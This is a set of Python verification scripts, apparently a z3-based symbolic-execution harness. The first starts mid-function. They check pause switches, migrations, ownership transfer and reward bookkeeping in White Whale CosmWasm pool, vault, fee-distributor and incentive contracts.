        off = c.sym('offer', 128)
        msg = it.mkv(XM, 'Swap', offer_asset=asset(it, 'cw20', 1, off), belief_price=NONE(), max_spread=SOME(DEC(c.sym('max_spread', 128))), to=NONE())
        funds = [COIN(aname(kinds, 0), c.sym('attached', 128))] if c.branch(c.symbool('with_funds'), 'funds') else []
        return enter(it, CP, 'execute', mk_env(it, 10**18), mk_info('trader', funds), msg)
    for p in ck.explore(prog, body, 'pair.swap.direct_cw20'):
        ck.sample(dict(entry='pair.execute(Swap) with a cw20 offer asset named directly', outcome=p.short()))
        ck.oblige('C17.pair.swap.direct_cw20.refused', p, p.ok, 'a direct Swap naming a cw20 offer is refused whatever the switches say (no tokens were received)')
        if not p.ok: ck.oblige('C17.pair.swap.direct_cw20.no_write', p, len(p.world.writes) != 0, 'and writes nothing')


def vault_paths(ck, progv):
    tf, td, tw = z3.Bool('t_flash'), z3.Bool('t_deposit'), z3.Bool('t_withdraw')
    def tg(c): return (c.symbool('t_flash'), c.symbool('t_deposit'), c.symbool('t_withdraw'))
    for kind in ('native', 'cw20'):
        k = kind[0]
        cases = [('deposit', lambda it, kind=kind: LV.deposit_body(kind, toggles=tg(it.ctx))(it), td, 'DepositsDisabled'),
                 ('deposit.first', lambda it, kind=kind: LV.deposit_body(kind, first=True, toggles=tg(it.ctx))(it), td, 'DepositsDisabled'),
                 ('withdraw.cw20_hook', lambda it, kind=kind: LV.withdraw_body(kind, toggles=tg(it.ctx))(it), tw, 'WithdrawsDisabled'),
                 ('flash_loan', lambda it, kind=kind: LV.flash_loan_body(kind, toggles=tg(it.ctx))(it), tf, 'FlashLoansDisabled')]
        for name, body, bit, err in cases:
            paths = ck.explore(progv, body, 'vault.%s.%s' % (name, k))
            seen_ok = seen_dis = False
            for p in paths:
                ck.sample(dict(entry='vault.' + name, kind=kind, outcome=p.short()))
                if p.ok:
                    seen_ok = True
                    ck.oblige('C17.vault.%s.off_rejects.%s' % (name, k), p, z3.Not(bit), 'accepted only while the switch for this operation is on')
                elif is_disabled_err(p, (err,)):
                    seen_dis = True
                    ck.oblige('C17.vault.%s.on_not_disabled.%s' % (name, k), p, bit, 'the "disabled" rejection only when this operation\'s own switch is off')
                    ck.oblige('C17.vault.%s.reject_no_write.%s' % (name, k), p, len(p.world.writes) != 0, 'a paused operation writes nothing')
                elif p.err and deref(p.value.fields[0]).variant in ('DepositsDisabled', 'WithdrawsDisabled', 'FlashLoansDisabled'):
                    ck.oblige('C17.vault.%s.wrong_switch.%s' % (name, k), p, True, 'an operation is never rejected with another operation\'s "disabled" error')
            ck.require(seen_ok and seen_dis, 'vault.%s.%s: expected both accepted and disabled paths' % (name, k))


def instantiate_all_on(ck, prog, progv):
    # pair
    def body(it):
        c = it.ctx; it.world.contract = PAIR
        IM = PN + 'pair::InstantiateMsg'
        fp, fs, fb = c.sym('fee_protocol', 128), c.sym('fee_swap', 128), c.sym('fee_burn', 128)
        msg = it.mk(IM, asset_infos=Agg('array', [info(it, 'native', 0), info(it, 'native', 1)]), token_code_id=c.sym('code_id', 64),
                    asset_decimals=Agg('array', [6, 6]),
                    pool_fees=it.mk(PN + 'pair::PoolFee', protocol_fee=fee(it, fp), swap_fee=fee(it, fs), burn_fee=fee(it, fb)),
                    fee_collector_addr=Str('collector'), pair_type=it.mkv(PN + 'asset::PairType', 'ConstantProduct'), token_factory_lp=False)
        return enter(it, CP, 'instantiate', mk_env(it, 10**18), mk_info('factory', []), msg)
    n = 0
    for p in ck.explore(prog, body, 'pair.instantiate'):
        if not p.ok: continue
        n += 1
        ft = p.prog and None
        cfgv = p.world.storage['config']
        t = cfgv.fields[3].fields
        ck.oblige('C17.pair.instantiate.all_on', p, not (t[0] is True and t[1] is True and t[2] is True), 'a new pool starts with everything enabled')
    ck.require(n >= 1, 'pair instantiate: no Ok path')
    # vault
    def bodyv(it):
        c = it.ctx; it.world.contract = LV.VAULT
        vf = it.mk('white_whale_std::fee::VaultFee', protocol_fee=LV.vfee(it, c.sym('vfee_protocol', 128)), flash_loan_fee=LV.vfee(it, c.sym('vfee_flash', 128)),
                   burn_fee=LV.vfee(it, c.sym('vfee_burn', 128)))
        msg = it.mk(LV.VN + 'InstantiateMsg', owner=Str('owner'), asset_info=LV.vinfo(it, 'native'), token_id=c.sym('token_id', 64), vault_fees=vf,
                    fee_collector_addr=Str('collector'), token_factory_lp=False)
        return enter(it, 'vault', 'instantiate', mk_env(it, 10**18), mk_info('factory', []), msg)
    n = 0
    for p in ck.explore(progv, bodyv, 'vault.instantiate'):
        if not p.ok: continue
        n += 1
        cfgv = p.world.storage['config']
        names = [f[0] for f in progv.adts[cfgv.name]['variants'][0]['fields']]
        vals = dict(zip(names, cfgv.fields))
        ck.oblige('C17.vault.instantiate.all_on', p, not (vals['flash_loan_enabled'] is True and vals['deposit_enabled'] is True and vals['withdraw_enabled'] is True),
                  'a new vault starts with everything enabled')
    ck.require(n >= 1, 'vault instantiate: no Ok path')


def native_lp_withdraw(ck, prog, prog3, progv):
    """the direct WithdrawLiquidity{} / Withdraw{} messages of pools and vaults whose LP token is a native (token-factory) denom: the LP coin is
    attached to the message, there is no cw20 hook in between.  The withdrawal switch must stop this path too.  (In the default build such a
    pool cannot be instantiated - TokenFactoryNotEnabled - but the dispatch code is the same in the token-factory builds that can; the pre-state
    is constructed directly and the total supply is answered by the token-info query the default build issues.)"""
    import lib_trio as LT
    NLP = 'native_lp_denom'
    def pair_body(it):
        c = it.ctx
        st = setup_pair(it, KIND_CFGS['nc'], toggles=toggles_sym(c)); common_inv(c, st)
        amt = c.sym('amount', 128); c.assume(amt <= st['S'])
        it.setfld(it.world.storage['pair_info'], 'liquidity_token', it.mkv(AIR, 'NativeToken', denom=Str(NLP)))
        it.world.cw20_info[NLP] = dict(total_supply=st['S'], decimals=6)
        return enter(it, CP, 'execute', mk_env(it, 10**18), mk_info('holder', [COIN(NLP, amt)]), it.mkv(XM, 'WithdrawLiquidity'))
    def trio_body(it):
        c = it.ctx
        st = LT.setup_trio(it, ('native', 'native', 'cw20'), (c.symbool('t_withdrawals'), c.symbool('t_deposits'), c.symbool('t_swaps'))); LT.trio_inv(c, st)
        amt = c.sym('amount', 128); c.assume(amt <= st['S'])
        it.setfld(it.world.storage['trio_info'], 'liquidity_token', it.mkv(AIR, 'NativeToken', denom=Str(NLP)))
        it.world.cw20_info[NLP] = dict(total_supply=st['S'], decimals=6)
        return enter(it, LT.T3, 'execute', mk_env(it, 10**18, height=c.sym('height', 64)), mk_info('holder', [COIN(NLP, amt)]), it.mkv(LT.TXM, 'WithdrawLiquidity'))
    def vault_body(it):
        c = it.ctx
        st = LV.setup_vault(it, 'native', (c.symbool('t_flash'), c.symbool('t_deposit'), c.symbool('t_withdraw')))
        amt = c.sym('amount', 128); c.assume(st['F'] <= st['B']); c.assume(amt <= st['S'])
        it.setfld(it.world.storage['config'], 'lp_asset', it.mkv(LV.AI, 'NativeToken', denom=Str(NLP)))
        it.world.cw20_info[NLP] = dict(total_supply=st['S'], decimals=6)
        return enter(it, 'vault', 'execute', mk_env(it, 10**18), mk_info('holder', [COIN(NLP, amt)]), it.mkv(LV.VX, 'Withdraw'))
    for name, pr, body, bit in (('pair', prog, pair_body, z3.Bool('t_withdrawals')), ('trio', prog3, trio_body, z3.Bool('t_withdrawals')), ('vault', progv, vault_body, z3.Bool('t_withdraw'))):
        seen_ok = False
        for p in ck.explore(pr, body, name + '.withdraw.native_lp'):
            ck.sample(dict(entry=name + ' direct withdraw with a native LP coin attached', outcome=p.short()))
            if p.ok:
                seen_ok = True
                ck.oblige('C17.%s.withdraw.native_lp.off_rejects' % name, p, z3.Not(bit), 'the direct withdrawal of a native LP coin is accepted only while the withdrawal switch is on',
                          site='direct withdraw path with a native LP token')
            elif p.err and (is_disabled_err(p, ()) or 'Disabled' in p.short() or 'disabled' in p.short()):
                ck.oblige('C17.%s.withdraw.native_lp.on_not_disabled' % name, p, bit, 'the "disabled" rejection only when the withdrawal switch is off')
                ck.oblige('C17.%s.withdraw.native_lp.reject_no_write' % name, p, len(p.world.writes) != 0, 'a paused withdrawal writes nothing')
        ck.require(seen_ok, name + '.withdraw.native_lp: no accepted path')

def main():
    ck = Check('C17')
    prog = ck.program('terraswap_pair', 'white_whale_std'); progv = ck.program('vault', 'white_whale_std')
    pair_paths(ck, prog); pair_direct_cw20_swap(ck, prog); vault_paths(ck, progv); instantiate_all_on(ck, prog, progv)
    try:
        import c17_trio
        c17_trio.run(ck)
    except ImportError:
        ck.outside.append('three-asset pool part not built')
    native_lp_withdraw(ck, prog, ck.program('stableswap_3pool', 'white_whale_std'), progv)
    import c17_migrate
    c17_migrate.run(ck, prog, progv)
    # the frontend helper path: a deposit the (paused) pool refuses makes the helper's reply fail, so the coins and cw20 tokens the helper
    # already pulled go back with the transaction - nothing is stranded on the helper
    import c11_helper
    c11_helper.reply_failure(ck, ck.program('frontend_helper', 'white_whale_std'))
    ck.bounds.update(toggles='all 2^3 combinations at once (three symbolic bits)', paths='pair: native swap, cw20-hook swap, provide (first/next), cw20-hook withdraw; vault: deposit (first/next), cw20-hook withdraw, flash loan; native and cw20 assets')
    ck.outside += ['token-factory builds (osmosis / injective features): the default build is analysed; the direct native-LP withdraw dispatch is covered from a constructed pre-state, the token-factory mint / burn messages are not',
                   'indirect callers (router, frontend helper, vault router) reach these same entry points through emitted messages: their message shape is C06/C11/C15']
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
