"""Symbolic world builder for the fee distributor."""
import z3
from engine.harness import *

FD = 'white_whale_std::fee_distributor::'
WL = 'white_whale_std::whale_lair::'
EM = 'white_whale_std::epoch_manager::epoch_manager::'
PN = 'white_whale_std::pool_network::'
AI = PN + 'asset::AssetInfo'
DIST = 'fee_distributor_contract'
BONDING = 'whale_lair_contract'
COLLECTOR = 'fee_collector_contract'
ASSETS = ['uwhale', 'uusdc']
FX = FD + 'ExecuteMsg'


def nat(it, d): return it.mkv(AI, 'NativeToken', denom=Str(d))
def nasset(it, d, amt): return it.mk(PN + 'asset::Asset', info=nat(it, d), amount=U128(amt))
def gindex(it, tag, c):
    return it.mk(WL + 'GlobalIndex', bonded_amount=U128(c.sym(tag + '_gb', 128)), bonded_assets=VecV([]), timestamp=TS(c.sym(tag + '_gts', 64)), weight=U128(c.sym(tag + '_gw', 128)))


def epoch_key(eid): return [Agg('bytes_of_u64', [eid])]


def setup_dist(it, nepochs=3, nassets=1, grace=None, cursor='some', owner='owner', claimed_shape='full', expired=0, empty_at=None):
    """distributor with `nepochs` consecutive epochs (ids base+1..base+n, symbolic base), each with `nassets` assets satisfying
    claimed + available = total; cursor: 'some' (LAST_CLAIMED_EPOCH[alice] symbolic) | 'none_bonded' | 'none_never'."""
    c = it.ctx; w = it.world; w.contract = DIST
    g = grace if grace is not None else c.sym('grace', 64)
    dur = c.sym('duration', 64); gen = c.sym('genesis', 64)
    w.item('config', it.mk(FD + 'Config', owner=ADDR(owner), bonding_contract_addr=ADDR(BONDING), fee_collector_addr=ADDR(COLLECTOR), grace_period=U64(g),
                           epoch_config=it.mk(EM + 'EpochConfig', duration=U64(dur), genesis_epoch=U64(gen)), distribution_asset=nat(it, ASSETS[0])))
    c.assume(g >= 1); c.assume(g <= 30)
    base = c.sym('base_id', 64); c.assume(base + nepochs + 2 < 2**64)
    eps = []; entries = []
    tot_avail = [0, 0]
    prev_start = None
    for k in range(nepochs):
        eid = base + k + 1
        start = c.sym('start%d' % k, 64)
        if prev_start is not None: c.assume(start > prev_start)
        prev_start = start
        tot, av, cl = [], [], []
        for j in range(nassets):
            t = c.sym('tot%d_%d' % (k, j), 128); a = c.sym('av%d_%d' % (k, j), 128); c.assume(a <= t); c.assume(t < 2**120)
            tot.append(t); av.append(a); cl.append(t - a)
            tot_avail[j] = tot_avail[j] + a
        gi = gindex(it, 'e%d' % k, c)
        if claimed_shape == 'full': clv = VecV([nasset(it, ASSETS[j], cl[j]) for j in range(nassets)])
        elif claimed_shape == 'empty': clv = VecV([])              # nothing claimed yet (then claimed_j = 0)
        else: clv = VecV([nasset(it, ASSETS[0], cl[0])])          # 'first_only': a two-asset epoch where only asset 0 was claimed so far
        if claimed_shape == 'empty':
            for j in range(nassets): c.assume(av[j] == tot[j])
        if claimed_shape == 'first_only':
            for j in range(1, nassets): c.assume(av[j] == tot[j])
        avv = VecV([nasset(it, ASSETS[j], av[j]) for j in range(nassets)])
        if k < expired:
            # an epoch that already left the grace window once: its remainder was rolled over and `available` cleared,
            # while claimed <= total stays as it was (reachable: it re-enters the window when the grace period is increased)
            cl2 = [c.sym('expired_claimed%d_%d' % (k, j), 128) for j in range(nassets)]
            for j in range(nassets):
                c.assume(cl2[j] <= tot[j]); tot_avail[j] = tot_avail[j] - av[j]; av[j] = 0; cl[j] = cl2[j]
            avv = VecV([]); clv = VecV([nasset(it, ASSETS[j], cl2[j]) for j in range(nassets)])
        totv = VecV([nasset(it, ASSETS[j], tot[j]) for j in range(nassets)])
        if empty_at == k:
            # an epoch created with no fee inflow and nothing rolled over: total, available and claimed are all empty
            for j in range(nassets):
                tot_avail[j] = tot_avail[j] - av[j]; av[j] = 0; tot[j] = 0; cl[j] = 0
            totv, avv, clv = VecV([]), VecV([]), VecV([])
        ep = it.mk(FD + 'Epoch', id=U64(eid), start_time=TS(start), total=totv, available=avv, claimed=clv, global_index=gi)
        entries.append((epoch_key(eid), ep))
        eps.append(dict(id=eid, start=start, tot=tot, av=av, cl=cl, gi=gi, share=c.sym('share%d' % k, 128)))
        c.assume(eps[-1]['share'] <= E18)
        # the bonding contract's answer for this epoch
        q = it.mkv(WL + 'QueryMsg', 'Weight', address=Str('alice'), timestamp=SOME(TS(start)), global_index=SOME(dup(gi)))
        resp = it.mk(WL + 'BondingWeightResponse', address=Str('alice'), weight=U128(c.sym('w%d' % k, 128)), global_weight=U128(c.sym('gw%d' % k, 128)),
                     share=DEC(eps[-1]['share']), timestamp=TS(start))
        w.smart_table.append((BONDING, q, resp))
    w.map('epochs', entries)
    cur = None
    if cursor == 'some':
        cur = c.sym('cursor', 64)
        w.map('last_claimed_epoch', [([Str('alice')], U64(cur))])
    else:
        w.map('last_claimed_epoch', [])
        fb = c.sym('first_bonded', 64)
        bonded = VecV([nasset(it, ASSETS[0], c.sym('alice_bonded', 128))]) if cursor == 'none_bonded' else VecV([])
        w.smart_table.append((BONDING, it.mkv(WL + 'QueryMsg', 'Bonded', address=Str('alice')),
                              it.mk(WL + 'BondedResponse', total_bonded=U128(c.sym('alice_bonded', 128)), bonded_assets=bonded, first_bonded_epoch_id=U64(fb))))
        cur = fb
    # the distributor holds at least the sum of all available amounts
    bal = []
    for j in range(nassets):
        b = c.sym('dist_balance%d' % j, 128); c.assume(b >= tot_avail[j]); bal.append(b)
        w.bank.append((Str(DIST), Str(ASSETS[j]), b))
    return dict(eps=eps, grace=g, cursor=cur, base=base, bal=bal, dur=dur, gen=gen, nassets=nassets)


def epochs_after(p):
    """{concrete index k: epoch value} by matching ids to base+k+1 is not possible symbolically; return list of (id term, epoch value)."""
    return [(parts[0].fields[0], v) for parts, v in p.world.storage['epochs'].entries]


def amounts(v, field_idx):
    return [(a.fields[0], a.fields[1].fields[0]) for a in v.fields[field_idx].items]
