"""C14 part: two-asset stableswap pair - Simulation query vs executed swap (the Newton solver is the same uninterpreted function in both)."""
import c03 as C03


def run(ck):
    prog = ck.program('terraswap_pair', 'white_whale_std')
    for dec in ((6, 6), (6, 8)) if ck.tier == 'quick' else C03.DECIMALS_ALL:
        C03.sim_vs_exec(ck, prog, dec)
    ck.bounds['stable'] = 'two-asset stableswap pair, native/cw20 both directions, decimals (6,6),(6,8) (thorough: six pairs); calculate_stableswap_y uninterpreted'
    ck.stubs.add('calculate_stableswap_y -> uninterpreted Y2 (C14 stable part)')
