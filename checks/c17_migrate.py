"""C17, migration part: a contract migration that rebuilds the stored configuration keeps every pause switch as the operator left it
(vault 1.1.3 -> current, pair 1.1.0 -> current).  The old-version configuration is constructed directly (its type is the one the
migration function itself declares), the three switches are symbolic, the real `migrate` entry point runs (version gate included)."""
import z3
from engine.harness import *
import lib_vault as LV
from lib_pool import PN, AI, AIR, PAIR, info_raw, fee as pfee


def fld(prog, v, name):
    for i, f in enumerate(prog.adts[v.name]['variants'][0]['fields']):
        if f[0] == name: return v.fields[i]
    raise KeyError(name)


def vault(ck, progv):
    V = 'vault::migrations::migrate_to_v120::'
    for old in (('1.1.3',) if ck.tier == 'quick' else ('1.1.3', '1.0.9')):
        def body(it, old=old):
            c = it.ctx; w = it.world; w.contract = LV.VAULT
            tg = (c.symbool('t_flash'), c.symbool('t_deposit'), c.symbool('t_withdraw'))
            fee = lambda n: it.mk('white_whale_std::fee::Fee', share=DEC(c.sym(n, 128)))
            w.item('config', it.mk(V + 'ConfigV113', owner=ADDR('owner'), asset_info=it.mkv(LV.AI, 'NativeToken', denom=Str('uluna')), flash_loan_enabled=tg[0], deposit_enabled=tg[1],
                                   withdraw_enabled=tg[2], liquidity_token=ADDR('vault_lp'), fee_collector_addr=ADDR('collector'),
                                   fees=it.mk(V + 'VaultFeeV113', protocol_fee=fee('fp'), flash_loan_fee=fee('fl'))))
            w.storage['contract_info'] = Agg('cw2::ContractVersion', [Str('white_whale-vault'), Str(old)])
            return enter(it, 'vault', 'migrate', mk_env(it, 10**18), None, Agg('white_whale_std::vault_network::vault::MigrateMsg', []))
        n = 0
        for p in ck.explore(progv, body, 'vault.migrate.from_' + old):
            ck.sample(dict(entry='vault.migrate', stored_version=old, outcome=p.short()))
            if not p.ok: continue
            n += 1
            cfg = p.world.storage['config']
            for name, bit in (('flash_loan_enabled', z3.Bool('t_flash')), ('deposit_enabled', z3.Bool('t_deposit')), ('withdraw_enabled', z3.Bool('t_withdraw'))):
                got = fld(progv, cfg, name)
                ck.oblige('C17.vault.migrate.keeps.%s.from_%s' % (name, old), p, (got != bit) if is_sym(got) else z3.BoolVal(bool(got)) != bit,
                          'the migrated vault configuration carries each switch over unchanged')
        ck.require(n >= 1, 'vault migrate from %s: no Ok path' % old)


def pair(ck, prog):
    V = 'terraswap_pair::migrations::migrate_to_v120::'
    def body(it):
        c = it.ctx; w = it.world; w.contract = PAIR
        tg = (c.symbool('t_withdrawals'), c.symbool('t_deposits'), c.symbool('t_swaps'))
        w.item('config', it.mk(V + 'ConfigV110', owner=ADDR('owner'), fee_collector_addr=ADDR('collector'),
                               pool_fees=it.mk(V + 'PoolFeeV110', protocol_fee=pfee(it, c.sym('fp', 128)), swap_fee=pfee(it, c.sym('fs', 128))),
                               feature_toggle=it.mk(PN + 'pair::FeatureToggle', withdrawals_enabled=tg[0], deposits_enabled=tg[1], swaps_enabled=tg[2])))
        w.item('pair_info', it.mk(PN + 'asset::PairInfoRaw', asset_infos=Agg('array', [info_raw(it, 'native', 0), info_raw(it, 'cw20', 1)]),
                                  contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str(PAIR)]),
                                  liquidity_token=it.mkv(AIR, 'Token', contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str('pair_lp')])),
                                  asset_decimals=Agg('array', [6, 6]), pair_type=it.mkv(PN + 'asset::PairType', 'ConstantProduct')))
        w.storage['contract_info'] = Agg('cw2::ContractVersion', [Str('white_whale-pool'), Str('1.1.0')])
        return enter(it, 'terraswap_pair', 'migrate', mk_env(it, 10**18), None, Agg(PN + 'pair::MigrateMsg', []))
    n = 0
    for p in ck.explore(prog, body, 'pair.migrate.from_1.1.0'):
        ck.sample(dict(entry='pair.migrate', stored_version='1.1.0', outcome=p.short()))
        if not p.ok: continue
        n += 1
        ft = fld(prog, p.world.storage['config'], 'feature_toggle')
        for i, bit in enumerate((z3.Bool('t_withdrawals'), z3.Bool('t_deposits'), z3.Bool('t_swaps'))):
            got = ft.fields[i]
            ck.oblige('C17.pair.migrate.keeps.%d' % i, p, (got != bit) if is_sym(got) else z3.BoolVal(bool(got)) != bit, 'the migrated pool configuration carries each switch over unchanged')
    ck.require(n >= 1, 'pair migrate from 1.1.0: no Ok path')


def run(ck, prog, progv):
    vault(ck, progv); pair(ck, prog)
    ck.bounds['migrations'] = 'vault stored at 1.1.3 (thorough: also 1.0.9), pair stored at 1.1.0: the migrations that rebuild the configuration in the default build'
    ck.outside.append('migrations of the injective / osmosis builds (feature-gated twins of the analysed functions); stored versions whose migration does not touch the configuration')
