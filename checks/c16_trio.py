"""C16 part: the three-asset pool's own privileged message and the factory's trio-related ones."""
import z3
from engine.harness import *
import lib_trio as LT

PN = 'white_whale_std::pool_network::'


def run(ck):
    import c16 as C16
    trx = LT.TXM; FX = C16.FX
    prog3 = ck.program('stableswap_3pool', 'white_whale_std'); progf = ck.program('terraswap_factory', 'white_whale_std')
    def setup3(it):
        c = it.ctx
        st = LT.setup_trio(it, ('native', 'native', 'cw20'))
        ia, fa, ib, fbk = st['amps']
        for v in (ia, fa): c.assume(v >= 1); c.assume(v <= 10**6)
    toggles_off = lambda it: it.mk(LT.TM + 'FeatureToggle', withdrawals_enabled=False, deposits_enabled=False, swaps_enabled=False)
    variants3 = [
        ('UpdateConfig.owner_toggle', lambda it: it.mkv(trx, 'UpdateConfig', owner=SOME(Str('mallory')), fee_collector_addr=SOME(Str('mallory')), pool_fees=NONE(), feature_toggle=SOME(toggles_off(it)), amp_factor=NONE()), 'owner'),
        ('UpdateConfig.fees', lambda it: it.mkv(trx, 'UpdateConfig', owner=NONE(), fee_collector_addr=NONE(),
                                               pool_fees=SOME(it.mk(LT.TM + 'PoolFee', protocol_fee=LT.tfee(it, 1), swap_fee=LT.tfee(it, 1), burn_fee=LT.tfee(it, 1))), feature_toggle=NONE(), amp_factor=NONE()), 'owner'),
        ('UpdateConfig.ramp', lambda it: it.mkv(trx, 'UpdateConfig', owner=NONE(), fee_collector_addr=NONE(), pool_fees=NONE(), feature_toggle=NONE(),
                                               amp_factor=SOME(it.mk(LT.TM + 'RampAmp', future_a=it.ctx.sym('new_amp', 64), future_block=it.ctx.sym('new_block', 64)))), 'owner'),
    ]
    for label, mk, who in variants3:
        C16.run_variant(ck, 'stableswap_3pool', setup3, label, mk, who, prog3)
    tfee3 = lambda it: it.mk(PN + 'trio::PoolFee', protocol_fee=it.mk('white_whale_std::fee::Fee', share=DEC(1)), swap_fee=it.mk('white_whale_std::fee::Fee', share=DEC(1)), burn_fee=it.mk('white_whale_std::fee::Fee', share=DEC(0)))
    variantsf = [
        ('CreateTrio', lambda it: it.mkv(FX, 'CreateTrio', asset_infos=Agg('array', [C16.nat(it, 'uluna'), C16.nat(it, 'uusd'), C16.nat(it, 'uatom')]), pool_fees=tfee3(it), amp_factor=100, token_factory_lp=False), 'owner'),
        ('UpdateTrioConfig', lambda it: it.mkv(FX, 'UpdateTrioConfig', trio_addr=Str('some_trio'), owner=SOME(Str('mallory')), fee_collector_addr=NONE(), pool_fees=NONE(), feature_toggle=NONE(), amp_factor=NONE()), 'owner'),
    ]
    def setupf(it):
        C16.pfactory_setup(it)
        FQ = PN + 'factory::QueryMsg'
        for d in ('uluna', 'uusd', 'uatom'):
            it.world.smart_table.append(('pool_factory_contract', it.mkv(FQ, 'NativeTokenDecimals', denom=Str(d)), it.mk(PN + 'factory::NativeTokenDecimalsResponse', decimals=6)))
    for label, mk, who in variantsf:
        C16.run_variant(ck, 'terraswap_factory', setupf, label, mk, who, progf)
    # after ownership is transferred the old owner loses and the new owner gains the rights - also when the transferring message carries every other
    # option (fees, switches and a valid amplification ramp) at the same time
    ramp = lambda it: SOME(it.mk(LT.TM + 'RampAmp', future_a=it.ctx.sym('new_amp', 64), future_block=it.ctx.sym('new_block', 64)))
    fees = lambda it: SOME(it.mk(LT.TM + 'PoolFee', protocol_fee=LT.tfee(it, 1), swap_fee=LT.tfee(it, 1), burn_fee=LT.tfee(it, 1)))
    for vname, mk_transfer in (
            ('alone', lambda it: it.mkv(trx, 'UpdateConfig', owner=SOME(Str('new_owner')), fee_collector_addr=NONE(), pool_fees=NONE(), feature_toggle=NONE(), amp_factor=NONE())),
            ('with_ramp', lambda it: it.mkv(trx, 'UpdateConfig', owner=SOME(Str('new_owner')), fee_collector_addr=NONE(), pool_fees=NONE(), feature_toggle=NONE(), amp_factor=ramp(it))),
            ('with_all', lambda it: it.mkv(trx, 'UpdateConfig', owner=SOME(Str('new_owner')), fee_collector_addr=SOME(Str('second_collector')), pool_fees=fees(it), feature_toggle=SOME(toggles_off(it)), amp_factor=ramp(it)))):
        def body(it, mk_transfer=mk_transfer):
            c = it.ctx; setup3(it)
            env = mk_env(it, 10**18, height=c.sym('height', 64))
            r = enter(it, 'stableswap_3pool', 'execute', env, mk_info('owner', []), mk_transfer(it))
            if r.variant != 'Ok': raise PathPruned()
            caller = Str(None, sym=c.sym('caller'))
            return enter(it, 'stableswap_3pool', 'execute', env, mk_info(ADDR(caller), []),
                         it.mkv(trx, 'UpdateConfig', owner=NONE(), fee_collector_addr=SOME(Str('x_collector')), pool_fees=NONE(), feature_toggle=NONE(), amp_factor=NONE()))
        n = 0
        for p in ck.explore(prog3, body, 'stableswap_3pool.transfer_then.' + vname):
            if p.ok:
                n += 1
                ck.oblige('C16.stableswap_3pool.transfer_then.%s.UpdateConfig' % vname, p, z3.Int('caller') != Str('new_owner').ident(),
                          'after the transfer only the new owner is accepted (the old owner is not) - transfer sent %s' % vname.replace('_', ' '))
        ck.require(n >= 1, 'stableswap_3pool.transfer_then.%s: no Ok path' % vname)
    ck.bounds['trio'] = 'three-asset pool UpdateConfig (owner/toggles, fees, ramp) and the factory\'s CreateTrio / UpdateTrioConfig'
