"""Symbolic world builder for the incentive contract."""
import z3
from engine.harness import *

I = 'white_whale_std::pool_network::incentive::'
IF = 'white_whale_std::pool_network::incentive_factory::'
FD = 'white_whale_std::fee_distributor::'
WL = 'white_whale_std::whale_lair::'
PN = 'white_whale_std::pool_network::'
AI = PN + 'asset::AssetInfo'
INC = 'incentive_contract'; FACTORY = 'incentive_factory_contract'; DIST = 'fee_distributor_contract'; COLLECTOR = 'fee_collector_contract'
IX = I + 'ExecuteMsg'
LPN = {'native': 'factory_lp_denom', 'cw20': 'lp_token_contract'}


def ainfo(it, kind, name): return it.mkv(AI, 'NativeToken', denom=Str(name)) if kind == 'native' else it.mkv(AI, 'Token', contract_addr=Str(name))
def masset(it, kind, name, amt): return it.mk(PN + 'asset::Asset', info=ainfo(it, kind, name), amount=U128(amt))
def opos(it, amt, dur): return it.mk(I + 'OpenPosition', amount=U128(amt), unbonding_duration=dur)
def cpos(it, amt, ts): return it.mk(I + 'ClosedPosition', amount=U128(amt), unbonding_timestamp=ts)


def setup_inc(it, lp_kind='native', fee=('native', 'uwhale'), epoch=None):
    c = it.ctx; w = it.world; w.contract = INC
    w.item('config', it.mk(I + 'Config', factory_address=ADDR(FACTORY), fee_distributor_address=ADDR(DIST), lp_asset=ainfo(it, lp_kind, LPN[lp_kind])))
    cur = epoch if epoch is not None else c.sym('cur_epoch', 64)
    c.assume(cur < 2**40) if is_sym(cur) else None
    ep = it.mk(FD + 'Epoch', id=U64(cur), start_time=TS(c.sym('cur_epoch_start', 64)), total=VecV([]), available=VecV([]), claimed=VecV([]),
               global_index=it.mk(WL + 'GlobalIndex', bonded_amount=U128(0), bonded_assets=VecV([]), timestamp=TS(0), weight=U128(0)))
    w.smart_table.append((DIST, it.mkv(FD + 'QueryMsg', 'CurrentEpoch'), it.mk(FD + 'EpochResponse', epoch=ep)))
    fee_amt = c.sym('flow_fee', 128)
    fcfg = it.mk(IF + 'Config', owner=ADDR('factory_owner'), fee_collector_addr=ADDR(COLLECTOR), fee_distributor_addr=ADDR(DIST),
                 create_flow_fee=masset(it, fee[0], fee[1], fee_amt), max_concurrent_flows=c.sym('max_flows', 64), incentive_code_id=7,
                 max_flow_epoch_buffer=c.sym('epoch_buffer', 32), min_unbonding_duration=c.sym('min_dur', 64), max_unbonding_duration=c.sym('max_dur', 64))
    w.smart_table.append((FACTORY, it.mkv(IF + 'QueryMsg', 'Config'), fcfg))
    return dict(cur=cur, fee_amt=fee_amt, lp_kind=lp_kind, lp=LPN[lp_kind])


def positions_world(it, st, n_open=1, n_closed=1, bob=True):
    """alice: n_open open + n_closed closed positions with symbolic amounts/durations; bob: one open, one closed."""
    c = it.ctx; w = it.world
    A = dict(open=[], closed=[])
    for k in range(n_open):
        A['open'].append((c.sym('a_open%d' % k, 128, lo=1), c.sym('a_dur%d' % k, 64)))
    for k in range(1, n_open): c.assume(A['open'][k][1] != A['open'][0][1])
    if n_open == 3: c.assume(A['open'][2][1] != A['open'][1][1])
    for k in range(n_closed):
        A['closed'].append((c.sym('a_closed%d' % k, 128, lo=1), c.sym('a_cts%d' % k, 64)))
    B = dict(open=[(c.sym('b_open', 128, lo=1), c.sym('b_dur', 64))], closed=[(c.sym('b_closed', 128, lo=1), c.sym('b_cts', 64))]) if bob else dict(open=[], closed=[])
    op = [([Str('alice')], VecV([opos(it, a, d) for a, d in A['open']]))] if A['open'] else []
    cl = [([Str('alice')], VecV([cpos(it, a, t) for a, t in A['closed']]))] if A['closed'] else []
    if bob:
        op.append(([Str('bob')], VecV([opos(it, *B['open'][0])]))); cl.append(([Str('bob')], VecV([cpos(it, *B['closed'][0])])))
    w.map('open_positions', op); w.map('closed_positions', cl)
    gw = c.sym('global_weight', 128); aw = c.sym('alice_weight', 128); bw = c.sym('bob_weight', 128)
    c.assume(gw < 2**120); c.assume(aw < 2**120)
    w.item('global_weight', U128(gw))
    w.map('address_weight', [([Str('alice')], U128(aw))] + ([([Str('bob')], U128(bw))] if bob else []))
    w.map('address_weight_snapshot', []); w.map('global_weight_snapshot', []); w.map('last_claimed_epoch', []); w.map('flows', [])
    w.item('flow_counter', c.sym('flow_counter', 32))
